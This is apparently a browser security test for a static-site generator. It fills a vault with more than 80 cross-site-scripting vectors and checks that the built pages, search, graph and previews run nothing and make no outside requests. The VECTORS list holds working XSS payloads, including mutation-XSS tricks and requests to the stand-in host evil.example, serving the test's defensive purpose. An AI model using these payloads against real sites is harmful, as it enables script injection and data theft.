"""A vault that tries everything it can to run on its own site: nothing does, though the pages' own lock is open."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

pytestmark = [pytest.mark.browser, pytest.mark.slow]

# Each puts its own number where READ looks, if it comes to life; `evil.example` may never be asked for anything.
VECTORS = (
    "<script>boom(N)</script>",
    "<SCRIPT SRC=//evil.example/N.js></SCRIPT>",
    "<scr<script>ipt>boom(N)</scr</script>ipt>",
    "</title><script>boom(N)</script>",
    "</script><script>boom(N)</script>",
    "</textarea><script>boom(N)</script>",
    "</style><script>boom(N)</script>",
    "</noscript><img src=x onerror=boom(N)>",
    "--><script>boom(N)</script><!--",
    "]]><script>boom(N)</script>",
    "<img src=x onerror=boom(N)>",
    "<img src=x onerror='boom(N)'",
    "<image href=x onerror=boom(N)>",
    "<img src=//evil.example/N.gif>",
    "<img srcset='//evil.example/N 1x' src=x>",
    "<svg onload=boom(N)>",
    "<svg><script>boom(N)</script></svg>",
    "<svg><animate onbegin=boom(N) attributeName=x dur=1s>",
    "<svg><set onbegin=boom(N) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:boom(N)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=boom(N) />#x'/></svg>",
    "<svg><style><img src=x onerror=boom(N)></style></svg>",
    "<svg><foreignObject><img src=x onerror=boom(N)></foreignObject></svg>",
    "<math><mtext><script>boom(N)</script></mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=boom(N)&gt;'>",
    "<math href='javascript:boom(N)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=boom(N)>",
    "<iframe src='javascript:parent.boom(N)'></iframe>",
    "<iframe srcdoc='<script>parent.boom(N)</script>'></iframe>",
    "<iframe onload=boom(N)></iframe>",
    "<object data='javascript:boom(N)'></object>",
    "<object data=//evil.example/N></object>",
    "<embed src='javascript:boom(N)'>",
    "<input autofocus onfocus=boom(N)>",
    "<select autofocus onfocus=boom(N)>",
    "<textarea autofocus onfocus=boom(N)>",
    "<button autofocus onfocus=boom(N) formaction=javascript:boom(N)>x</button>",
    "<form action=javascript:boom(N)><input type=submit></form>",
    "<details open ontoggle=boom(N)><summary>x</summary></details>",
    "<video src=x onerror=boom(N)></video>",
    "<video><source onerror=boom(N)></video>",
    "<audio src=x onerror=boom(N)>",
    "<video poster=//evil.example/N></video>",
    "<body onload=boom(N)>",
    "<body onpageshow=boom(N)>",
    "<marquee onstart=boom(N)>x</marquee>",
    "<div popover id=p onbeforetoggle=boom(N)>x</div><button popovertarget=p>x</button>",
    "<style>@import '//evil.example/N.css';</style>",
    "<style>*{animation:a 1s}@keyframes a{}</style><b onanimationstart=boom(N)>",
    "<b style='background:url(//evil.example/N)'>x</b>",
    "<b style='animation:a 1s' onanimationstart=boom(N)>x</b>",
    "<link rel=stylesheet href=//evil.example/N.css>",
    "<link rel=prefetch href=//evil.example/N>",
    "<meta http-equiv=refresh content='0;url=//evil.example/N'>",
    "<base href=//evil.example/>",
    "<table background=//evil.example/N><tr><td>x</table>",
    "<a href=javascript:boom(N)>x</a>",
    "<a href='&#106;ava&#10;script:boom(N)'>x</a>",
    "<a href='data:text/html,<script>boom(N)</script>' ping=//evil.example>x</a>",
    "[x](javascript:boom(N))",
    "[x](<java&#9;script:boom(N)>)",
    "![x](javascript:boom(N))",
    "![x](//evil.example/N.gif)",
    "[[javascript:boom(N)|x]]",
    '![[x" onerror="boom(N)]]',
    "javascript:boom(N)",
    "javascript://x%0Aboom(N)",
    "data:text/html,<script>boom(N)</script>",
    "//evil.example/N",
    '" onmouseover=boom(N) autofocus onfocus=boom(N) x="',
    "' onmouseover=boom(N) autofocus onfocus=boom(N) x='",
    "` onfocus=boom(N) autofocus x=`",
    '"><img src=x onerror=boom(N)>',
    "'><img src=x onerror=boom(N)>",
    "&lt;img src=x onerror=boom(N)&gt;",
    "&quot;&gt;&lt;script&gt;boom(N)&lt;/script&gt;",
    "\\u003cscript\\u003eboom(N)\\u003c/script\\u003e",
    "{{ 7*7 }}{% raw %}<script>boom(N)</script>",
    "'-boom(N)-'",
    '"});boom(N);({"',
    "\u2028boom(N)//",
    "$\\href{javascript:boom(N)}{x}$",
    "$\\text{<img src=x onerror=boom(N)>}$",
    "__proto__",
)  # fmt: skip
# Small pictures, and the browser's own reader of PDF files.
OWN = ("data:image/", "chrome:", "chrome-extension:")
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="top.boom({0})">'
    "<script>top.boom({0})</script>{1}</svg>"
)
SPY = """
window.boom = (n) => (window.__xss ||= []).push(n);
window.alert = window.confirm = window.prompt = window.boom;
"""
# What a person's click, hover or key would bring to life counts as much as what runs by itself.
READ = """() => {
  const found = (window.__xss || []).map((n) => `ran: ${n}`);
  for (const element of document.querySelectorAll("*")) {
    const inside = element.closest("main, aside");
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on") || name === "srcdoc" || name === "style" && inside && value.includes("url"))
        found.push(`${element.tagName} ${name}=${value}`);
      if (/^(href|src|xlink:href|action|formaction|data|poster|ping|background)$/.test(name)
        && /^(javascript:|vbscript:|data:(?!image\\/))/i.test(value.replace(/[\\x00-\\x20]/g, "")))
        found.push(`${element.tagName} ${name}=${value}`);
    }
    if (inside && /^(SCRIPT|IFRAME|EMBED|BASE|FORM|LINK|META|STYLE|OBJECT)$/.test(element.tagName)
      && element.getAttribute("role") !== "search"
      && !/\\/(assets|_data)\\/graph\\.js(\\?v=[0-9a-f]{8})?$/.test(element.src)
      && !/^[^:]+\\.pdf$/.test(element.getAttribute("data")))
      found.push(element.outerHTML.slice(0, 200));
  }
  return found;
}"""


def _named(vector: str, number: int) -> str:
    """The vector as a name that a file can have."""
    return vector.replace("N", str(number)).replace("/", "∕")[:150].strip(". ")


def _note(vector: str, number: int) -> str:
    text = json.dumps(vector)
    front = "".join(
        f"{name}: {value}\n"
        for name, value in {
            "title": text, "aliases": f"[{text}]", "tags": f"[{text}, a]", "kind": text, "name": text,
            "date": text, "updated": text, "url": text, "website": text, "logo": text, "cover": text,
            "description": text, "valuation": text, "status": text, "country": text, "stage": text,
            "investors": f"[{json.dumps(f'[[{vector}]]')}, {text}]", "ceo": json.dumps(f"[[Calm|{vector}]]"),
            "cssclasses": f"[{text}]", "sources": f"[{text}]", json.dumps(f"x {vector}"): text,
        }.items()
    )  # fmt: skip
    body = f"""
{vector}

# {vector}

## A place {vector}

> [!note] {vector}
> {vector}

> [!{vector}] x
> x

[[Calm|{vector}]] [[{vector}]] [[Calm#{vector}]] ![[Calm|{vector}]] ![[Picture.svg|{vector}]] ![[{vector}]]

[{vector}](https://example.com) [x](<{vector}>) [x](https://example.com "{vector}") ![{vector}](Picture.svg)

| {vector} | b |
|---|---|
| [[Calm\\|{vector}]] | {vector} |

- [{vector[:1]}] {vector}
- #{vector} ^[{vector}] =={vector}== %%{vector}%% `{vector}`

```{vector}
{vector}
```

```mermaid
graph LR
 a[{vector}] --> b
```

```base
filters: at == {number}
formulas:
  x: {json.dumps(f"html({text})")}
views:
  - type: table
    name: {text}
    order: [file.name, formula.x, note.title]
```

A block {vector} ^block
"""
    return f"---\nat: {number}\n{front}---\n{body}"


def _base(vector: str, number: int) -> str:
    text = json.dumps(vector)
    order = "[file.name, file.links, formula.x, formula.y, formula.z, formula.w, note.title, note.url, note.cover]"
    views = "".join(
        f"  - type: {kind}\n    name: {json.dumps(kind + ' ' + vector)}\n    image: note.cover\n    order: {order}\n"
        "    groupBy: {property: note.title, direction: ASC}\n"
        for kind in ("table", "cards", "list")
    )
    return f"""filters: at == {number}
formulas:
  x: {json.dumps(f"html({text})")}
  y: {json.dumps(f"link({text}, {text})")}
  z: {json.dumps(f"image({text})")}
  w: {json.dumps(f"{text}.{vector[:9]}")}
  {json.dumps("v " + vector)}: {text}
properties:
  note.title:
    displayName: {text}
  formula.x:
    displayName: {text}
summaries:
  s: {json.dumps(f"html({text})")}
views:
{views}  - type: {text}
    name: z
"""


def _canvas(vectors: list[str]) -> str:
    nodes: list[dict[str, Any]] = []
    for at, vector in enumerate(vectors):
        x, y = at % 8 * 260, at // 8 * 500
        place: dict[str, Any] = {"x": x, "y": y, "width": 220, "height": 90, "color": vector}
        nodes += [
            {"id": f"t{at}", "type": "text", "text": vector, **place},
            {"id": f"l{at}", "type": "link", "url": vector, **place, "y": y + 100},
            {
                "id": f"g{at}",
                "type": "group",
                "label": vector,
                "background": vector,
                **place,
                "y": y + 200,
            },
            {
                "id": f"f{at}",
                "type": "file",
                "file": vector,
                "subpath": vector,
                **place,
                "y": y + 300,
            },
            {"id": vector, "type": vector, **place, "y": y + 400},
        ]
    edges = [
        {"id": f"e{at}", "fromNode": f"t{at}", "toNode": f"l{at}", "label": vector, "color": vector, "fromSide": vector,
         "toEnd": vector}
        for at, vector in enumerate(vectors)
    ]  # fmt: skip
    return json.dumps({"nodes": nodes, "edges": edges})


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site of a vault in which every vector stands in every place."""
    home = tmp_path_factory.mktemp("hostile")
    vault = home / "vault"
    numbered = [vector.replace("N", str(at)) for at, vector in enumerate(VECTORS)]
    for at, vector in enumerate(numbered):
        name = _named(vector, at)
        folder = vault / name
        folder.mkdir(parents=True)
        (folder / f"{name}.md").write_text(_note(vector, at), "utf-8")
        (folder / f"Note {at}.md").write_text(_note(vector, at), "utf-8")
        (folder / f"Base {at}.base").write_text(_base(vector, at), "utf-8")
        shown = (f"Note {at}", f"Note {at}#^block", f"Base {at}.base", f"{name}.svg", f"{name}.pdf")
        (folder / f"Showing {at}.md").write_text("\n\n".join(f"![[{one}]]" for one in shown), "utf-8")
        (folder / f"{name}.svg").write_text(SVG.format(at, vector), "utf-8")
        (folder / f"{name}.pdf").write_text(vector, "utf-8")
    for at in range(0, len(numbered), 12):
        (vault / f"Map {at}.canvas").write_text(_canvas(numbered[at : at + 12]), "utf-8")
    (vault / "Maps.md").write_text(
        "".join(f"![[Map {at}.canvas]]\n\n" for at in range(0, len(numbered), 12)), "utf-8"
    )
    (vault / "Calm.md").write_text("# Calm\n", "utf-8")
    (vault / "Picture.svg").write_text(SVG.format(1, ""), "utf-8")
    command = [
        sys.executable,
        "-m",
        "vaultgen",
        "site",
        "build",
        "--vault",
        str(vault),
        "--out",
        str(home / "site"),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=300, cwd=home)
    return home / "site"


@pytest.fixture(scope="module")
def open_page(browser: Any, hostile: Path, serve_folder: Callable[[Path], str]) -> Any:
    """A page without the lock of its Content-Security-Policy, its address, and a list of what it did wrong."""
    base = serve_folder(hostile)
    context = browser.new_context(bypass_csp=True)
    context.add_init_script(SPY)
    page = context.new_page()
    trouble: list[str] = []

    def dismiss(dialog: Any) -> None:
        trouble.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.on(
        "request",
        lambda request: (
            None
            if request.url.startswith(OWN) or request.url.startswith(base)
            else trouble.append(request.url)
        ),
    )
    yield page, base, trouble
    context.close()


def test_there_are_enough_vectors_for_a_claim() -> None:
    assert len(set(VECTORS)) >= 60


def test_no_page_of_a_hostile_vault_runs_anything(open_page: Any, hostile: Path) -> None:
    page, base, trouble = open_page
    pages = sorted(path.relative_to(hostile).as_posix() for path in hostile.rglob("*.html"))
    assert len(pages) > 3 * len(VECTORS)
    for address in pages:
        page.goto(base + "/".join(map(_quoted, address.split("/"))), wait_until="load")
        trouble += [f"{address}: {found}" for found in page.evaluate(READ)]
        assert page.url.startswith(base), address
    assert trouble == []


def _quoted(part: str) -> str:
    from urllib.parse import quote

    return quote(part)


def test_nor_does_search_which_shows_hostile_titles_and_texts(open_page: Any) -> None:
    page, base, trouble = open_page
    page.goto(base + "search.html", wait_until="load")
    for query in ("boom", "script", "evil", "onerror", "javascript", "img src", "proto"):
        page.get_by_role("combobox", name="Search").first.fill(query)
        expect(page.get_by_role("listbox", name="Results").get_by_role("option").first).to_be_visible()
        expect(page.get_by_role("status").first).to_contain_text("result")
        for _ in range(4):
            page.evaluate("document.querySelector('.search-more:not([hidden])')?.click()")
            page.wait_for_timeout(100)
        trouble += page.evaluate(READ)
    assert trouble == []


def test_nor_do_the_graph_and_the_previews(open_page: Any) -> None:
    page, base, trouble = open_page
    page.goto(base + "graph.html", wait_until="load")
    for node in page.locator("a.w-n").all()[::9]:
        node.focus()
    page.get_by_label("Find a note").fill("<img src=x onerror=boom(1)>")
    page.keyboard.press("Enter")
    trouble += page.evaluate(READ)
    page.goto(base + "index.html", wait_until="load")
    links = page.locator("a[data-preview]").all()[:60]
    assert links
    for link in links[::3]:
        link.hover()
        expect(page.locator(".preview")).to_be_visible()
    trouble += page.evaluate(READ)
    assert trouble == []
